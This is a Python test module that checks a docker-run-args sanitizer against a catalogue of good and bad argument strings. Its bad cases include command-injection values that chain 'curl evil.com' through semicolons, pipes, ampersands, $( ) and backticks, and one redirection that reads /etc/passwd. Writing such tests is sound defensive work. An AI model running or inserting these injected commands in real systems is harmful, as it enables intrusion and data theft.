"""Scenario self-test for the docker-run-args sanitizer.

Runs a catalogue of known-good and known-bad argument strings through the
sanitizer and checks each verdict against the expected outcome.
"""

import json
import logging
from dataclasses import dataclass, field
from pathlib import Path

from pydantic import BaseModel, ConfigDict, Field, ValidationError

from .validation import ArgumentSanitizer, ValidationResult

logger = logging.getLogger(__name__)


class Scenario(BaseModel):
    """A single argument string with its expected verdict."""
    name: str
    docker_run_args: str = Field(alias="dockerRunArgs", default="")
    should_fail: bool = Field(alias="shouldFail")
    container_name: str | None = Field(alias="containerName", default=None)
    port: int | None = None

    model_config = ConfigDict(populate_by_name=True, frozen=True)


DEFAULT_SCENARIOS: list[Scenario] = [
    Scenario(name="Valid arguments should succeed", container_name="test-valid", port=8080,
             docker_run_args="--memory=512m --cpu-shares=512", should_fail=False),
    Scenario(name="Command injection with semicolon should fail", container_name="test-semicolon", port=8081,
             docker_run_args="--memory=512m; curl evil.com", should_fail=True),
    Scenario(name="Command injection with ampersand should fail", container_name="test-ampersand", port=8082,
             docker_run_args="--memory=512m & curl evil.com", should_fail=True),
    Scenario(name="Command injection with pipe should fail", container_name="test-pipe", port=8083,
             docker_run_args="--memory=512m | curl evil.com", should_fail=True),
    Scenario(name="Command substitution should fail", container_name="test-cmd-sub", port=8084,
             docker_run_args="--memory=$(curl evil.com)", should_fail=True),
    Scenario(name="Backtick command substitution should fail", container_name="test-backtick", port=8085,
             docker_run_args="--memory=`curl evil.com`", should_fail=True),
    Scenario(name="Variable expansion with braces should fail", container_name="test-var-exp", port=8086,
             docker_run_args="--env=${HOME}/malicious", should_fail=True),
    Scenario(name="Variable expansion without braces should fail", container_name="test-var-ref", port=8087,
             docker_run_args="--env=$PATH", should_fail=True),
    Scenario(name="Shell input redirection should fail", container_name="test-redirect-in", port=8088,
             docker_run_args="--memory < /etc/passwd", should_fail=True),
    Scenario(name="Shell output redirection should fail", container_name="test-redirect-out", port=8089,
             docker_run_args="--memory > /tmp/evil", should_fail=True),
    Scenario(name="Invalid flag format should fail", container_name="test-invalid-flag", port=8090,
             docker_run_args="--mem@ry=512m", should_fail=True),
    Scenario(name="Valid flag with equals should succeed", container_name="test-valid-equals", port=8091,
             docker_run_args="--memory=512m", should_fail=False),
    Scenario(name="Valid short flag should succeed", container_name="test-valid-short", port=8092,
             docker_run_args="-m 512m", should_fail=False),
    Scenario(name="Docker flag with acceptable redirection pattern should succeed",
             container_name="test-docker-redirect", port=8093,
             docker_run_args="--log-driver=json-file", should_fail=False),
    Scenario(name="Multiple valid arguments should succeed", container_name="test-multiple", port=8094,
             docker_run_args="--memory=512m --cpu-shares=512 --restart=unless-stopped", should_fail=False),
    Scenario(name="Empty docker-run-args should succeed", container_name="test-empty", port=8095,
             docker_run_args="", should_fail=False),
]


@dataclass
class ScenarioOutcome:
    """Outcome of running one scenario."""
    scenario: Scenario
    result: ValidationResult

    @property
    def passed(self) -> bool:
        return self.result.accepted != self.scenario.should_fail

    @property
    def description(self) -> str:
        if self.passed:
            expectation = "failed" if self.scenario.should_fail else "succeeded"
            return f"{self.scenario.name} (correctly {expectation} as expected)"
        if self.scenario.should_fail:
            return f"{self.scenario.name} - Expected validation to fail but it succeeded"
        return f"{self.scenario.name} - Expected validation to succeed but it failed"


@dataclass
class SuiteResult:
    """Accumulated results of a scenario run."""
    tests_run: int = 0
    tests_passed: int = 0
    tests_failed: int = 0
    outcomes: list[ScenarioOutcome] = field(default_factory=list)

    @property
    def success(self) -> bool:
        return self.tests_failed == 0

    @property
    def exit_code(self) -> int:
        return 0 if self.success else 1

    def record(self, outcome: ScenarioOutcome) -> None:
        self.tests_run += 1
        if outcome.passed:
            self.tests_passed += 1
        else:
            self.tests_failed += 1
        self.outcomes.append(outcome)

    def to_dict(self) -> dict:
        return {
            "tests_run": self.tests_run,
            "tests_passed": self.tests_passed,
            "tests_failed": self.tests_failed,
            "success": self.success,
            "outcomes": [
                {
                    "name": o.scenario.name,
                    "docker_run_args": o.scenario.docker_run_args,
                    "should_fail": o.scenario.should_fail,
                    "accepted": o.result.accepted,
                    "passed": o.passed,
                    "rule": o.result.rejection.rule if o.result.rejection else None
                }
                for o in self.outcomes
            ]
        }


def run_scenarios(scenarios: list[Scenario] | None = None,
                  sanitizer: ArgumentSanitizer | None = None) -> SuiteResult:
    """Run scenarios through the sanitizer and tally the outcomes.

    Args:
        scenarios: Scenarios to run (default: DEFAULT_SCENARIOS)
        sanitizer: Sanitizer to use (default: one with the default rules)

    Returns:
        SuiteResult with per-scenario outcomes and counters
    """
    if scenarios is None:
        scenarios = DEFAULT_SCENARIOS
    if sanitizer is None:
        sanitizer = ArgumentSanitizer()
        sanitizer.create_default_rules()

    suite = SuiteResult()
    for scenario in scenarios:
        logger.info(f"Running test: {scenario.name}")
        outcome = ScenarioOutcome(scenario, sanitizer.validate(scenario.docker_run_args))
        suite.record(outcome)
        if outcome.passed:
            logger.debug(f"PASS {outcome.description}")
        else:
            logger.error(f"FAIL {outcome.description}")

    logger.info(f"Ran {suite.tests_run} scenarios: {suite.tests_passed} passed, {suite.tests_failed} failed")
    return suite


def load_scenarios(path: str | Path) -> list[Scenario]:
    """Load scenarios from a JSON file.

    The file holds either a list of scenarios or an object with a
    ``scenarios`` list.

    Raises:
        FileNotFoundError: If the file does not exist
        ValueError: If the file is not valid JSON or a scenario is malformed
    """
    path = Path(path)
    try:
        with open(path, encoding="utf-8") as f:
            data = json.load(f)
    except json.JSONDecodeError as e:
        raise ValueError(f"Invalid JSON in scenario file {path}: {e}")

    if isinstance(data, dict):
        data = data.get("scenarios")
    if not isinstance(data, list):
        raise ValueError(f"Scenario file {path} must contain a list of scenarios")

    try:
        return [Scenario.model_validate(item) for item in data]
    except ValidationError as e:
        raise ValueError(f"Invalid scenario in {path}: {e}")
